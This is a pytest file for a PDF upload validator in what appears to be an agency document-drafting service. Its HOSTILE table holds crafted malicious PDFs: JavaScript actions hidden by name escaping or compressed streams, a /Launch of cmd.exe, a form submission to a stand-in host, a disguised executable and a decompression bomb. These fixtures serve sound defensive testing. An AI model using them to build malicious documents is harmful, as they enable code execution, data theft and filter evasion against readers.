"""The signed sheet: a PDF by what is in it, whatever it is called, that runs nothing; on both databases."""

import io
import zlib

import pytest
from drafts.workbench import FIRST, SECOND, Workbench
from reportlab.pdfgen import canvas
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from service import drafts
from service.database import reading
from service.drafts import Paper
from service.drafts.signed import refuse_paper
from service.drafts.tables import PaperRow
from service.errors import Invalid, NotFound


def scan() -> bytes:
    """A sheet as a scanner or a printer makes one."""
    made = io.BytesIO()
    sheet = canvas.Canvas(made)
    sheet.drawString(72, 720, "SOP Pengumpulan Data, ditandatangani")
    sheet.linkURL("https://metrokota.go.id", (72, 700, 200, 712))
    sheet.save()
    return made.getvalue()


def with_object(body: bytes) -> bytes:
    return scan().replace(b"xref", b"99 0 obj\n" + body + b"\nendobj\nxref", 1)


def packed(body: bytes) -> bytes:
    """The same inside a compressed stream of objects."""
    stream = zlib.compress(b"98 0 " + body)
    return with_object(b"<< /Type /Obj#53tm /N 1 /Filter /FlateDecode >> stream\n" + stream + b"\nendstream")


HOSTILE = {
    "no pdf": b"MZ\x90\x00" + b"\x00" * 400,
    "html": b"<html>%PDF-1.7<script>alert(1)</script>endobj%%EOF",
    "empty": b"",
    "cut": scan()[:-300],
    "only a name": b"%PDF-1.7",
    "script": with_object(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    "script with escapes": with_object(b"<< /S /J#61vaScript /J#53 (app.alert) >>"),
    "packed script": packed(b"<< /S /JavaScript /JS (app.alert) >>"),
    "program": with_object(b"<< /S /Launch /F (cmd.exe) >>"),
    "attachment": with_object(b"<< /Names << /EmbeddedFiles 5 0 R >> >>"),
    "sends away": with_object(b"<< /S /SubmitForm /F (https://jahat.example) >>"),
    "locked": with_object(b"<< /Encrypt 7 0 R >>"),
    "hidden in a picture": with_object(
        b"<< /Length 60 >> stream\n97 0 obj << /S /JavaScript >> endobj\nendstream"
    ),
    "too large": scan().replace(b"xref", b"%" + b"x" * 3_000_000 + b"\nxref", 1),
    "bomb": packed(b"0" * 25_000_000),
}


def test_streams_that_never_end_are_looked_at_once() -> None:
    refuse_paper(Paper("SOP.pdf", scan().replace(b"xref", b"%" + b"stream\n" * 400_000 + b"\nxref", 1)))


def test_a_scan_and_a_printed_sheet_are_taken() -> None:
    refuse_paper(Paper("SOP.pdf", scan()))
    refuse_paper(Paper("SOP.exe", packed(b"<< /Type /Page >>")))


@pytest.mark.parametrize("what", HOSTILE)
def test_what_is_no_quiet_pdf_is_refused_in_a_sentence(what: str) -> None:
    with pytest.raises(Invalid) as no:
        refuse_paper(Paper("SOP.pdf", HOSTILE[what]))
    assert "PDF" in str(no.value) and "alert" not in str(no.value)


@pytest.fixture
def bench(engine: Engine) -> Workbench:
    return Workbench(engine)


def test_a_refused_sheet_leaves_nothing_behind(bench: Workbench) -> None:
    draft = bench.begins()
    with pytest.raises(Invalid):
        bench.proposes(draft, paper=Paper("x.pdf", HOSTILE["script"]))
    with reading(bench.world.engine, "metro") as session:
        assert session.scalars(select(PaperRow)).all() == []
    assert bench.does(drafts.get, FIRST, draft.id) == draft


def test_a_sheet_is_kept_once_by_its_digest_and_belongs_to_one_agency(bench: Workbench) -> None:
    sheet = Paper("SOP dari pindaian.pdf", scan())
    first, second = (bench.proposes(bench.changed(bench.begins()), paper=sheet) for _ in range(2))
    assert first.paper == second.paper == sheet.sha256
    assert bench.releases(first).version == 2
    record = bench.does(lambda session, actor: _paper(session), SECOND)
    assert record == [(sheet.sha256, sheet.data)]
    assert bench.does(drafts.paper_of, SECOND, sheet.sha256) == sheet
    bench.world.deploys("tarakan-layanan-data")
    stranger = bench.world.person("pemilik.tarakan")
    with reading(bench.world.engine, "tarakan") as session, pytest.raises(NotFound):
        drafts.paper_of(session, stranger, sheet.sha256)


def _paper(session: Session) -> list[tuple[str, bytes]]:
    return [tuple(row) for row in session.execute(select(PaperRow.sha256, PaperRow.data))]
